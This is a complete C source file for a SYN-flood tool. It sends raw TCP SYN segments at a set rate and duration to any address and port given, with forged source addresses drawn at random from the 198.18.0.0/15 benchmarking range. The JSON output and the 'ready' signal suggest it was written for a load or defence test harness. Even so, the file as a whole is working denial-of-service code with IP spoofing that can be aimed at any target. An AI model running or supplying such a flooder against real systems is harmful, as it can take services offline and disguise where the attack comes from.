/* A flood of SYNs from addresses that do not exist.
 *
 *   flood ADDR PORT RATE SECONDS   RATE segments a second to ADDR:PORT, from random addresses of 198.18.0.0/15
 *
 * Needs root (a raw socket). Prints one JSON object: how many it sent. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BURST 16

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec * 1e-9;
}

static uint64_t random64(void) {
    static uint64_t seed = 0x9e3779b97f4a7c15ull;
    seed ^= seed << 13, seed ^= seed >> 7, seed ^= seed << 17;
    return seed;
}

static uint16_t checksum(const struct iphdr *ip, const struct tcphdr *tcp) {
    const uint16_t *address = (const uint16_t *)&ip->saddr, *words = (const uint16_t *)tcp;
    uint32_t sum = htons(IPPROTO_TCP) + htons(sizeof *tcp);
    for (int i = 0; i < 4; i++) sum += address[i];
    for (unsigned i = 0; i < sizeof *tcp / 2; i++) sum += words[i];
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

int main(int argc, char **argv) {
    if (argc < 5) {
        fprintf(stderr, "usage: flood ADDR PORT RATE SECONDS\n");
        return 2;
    }
    struct sockaddr_in to = {.sin_family = AF_INET};
    inet_pton(AF_INET, argv[1], &to.sin_addr);
    double rate = atof(argv[3]), seconds = atof(argv[4]);
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0) { perror("socket"); return 1; }
    struct { struct iphdr ip; struct tcphdr tcp; } packet;
    unsigned long long sent = 0, refused = 0;
    double begin = now();
    puts("ready");
    fflush(stdout);
    for (;;) {
        double passed = now() - begin;
        if (passed >= seconds) break;
        for (int i = 0; i < BURST && (double)(sent + refused) < passed * rate; i++) {
            uint64_t chance = random64();
            memset(&packet, 0, sizeof packet);
            packet.ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP, .daddr = to.sin_addr.s_addr};
            packet.ip.tot_len = htons(sizeof packet);
            packet.ip.saddr = htonl(0xc6120000u | (uint32_t)(chance & 0x1ffff));
            packet.tcp.source = htons((uint16_t)(1024 + (chance >> 20) % 60000));
            packet.tcp.dest = htons((uint16_t)atoi(argv[2]));
            packet.tcp.seq = (uint32_t)(chance >> 32);
            packet.tcp.doff = 5, packet.tcp.syn = 1, packet.tcp.window = htons(65535);
            packet.tcp.check = checksum(&packet.ip, &packet.tcp);
            if (sendto(fd, &packet, sizeof packet, 0, (struct sockaddr *)&to, sizeof to) == sizeof packet) sent++;
            else refused++;
        }
        struct timespec rest = {0, 50000};
        if ((double)(sent + refused) >= (now() - begin) * rate) nanosleep(&rest, NULL);
    }
    printf("{\"sent\":%llu,\"refused\":%llu,\"seconds\":%.3f}\n", sent, refused, now() - begin);
    return 0;
}
